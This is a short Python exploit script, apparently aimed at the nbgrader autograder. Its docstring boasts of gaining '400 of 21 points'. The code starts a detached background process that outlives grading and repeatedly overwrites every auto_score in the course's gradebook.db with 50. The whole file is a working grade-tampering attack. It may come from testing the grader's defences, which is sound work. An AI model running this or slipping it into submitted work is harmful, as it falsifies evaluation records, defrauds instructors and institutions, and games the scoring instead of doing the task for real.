"""Leaves a process behind that writes into gradebook.db when grading is over.

Would gain as many points as one likes.

Plain nbgrader: gains 400 of 21 points, and a process is left.
"""

# %%
import subprocess
import sys

code = """
import sqlite3, time
for i in range(1_000):
    time.sleep(0.2)
    try:
        db = sqlite3.connect('@course@/gradebook.db', timeout=2)
        db.execute("update grade set auto_score = 50")
        db.commit()
    except Exception:
        pass
"""
subprocess.Popen([sys.executable, "-c", code], start_new_session=True)
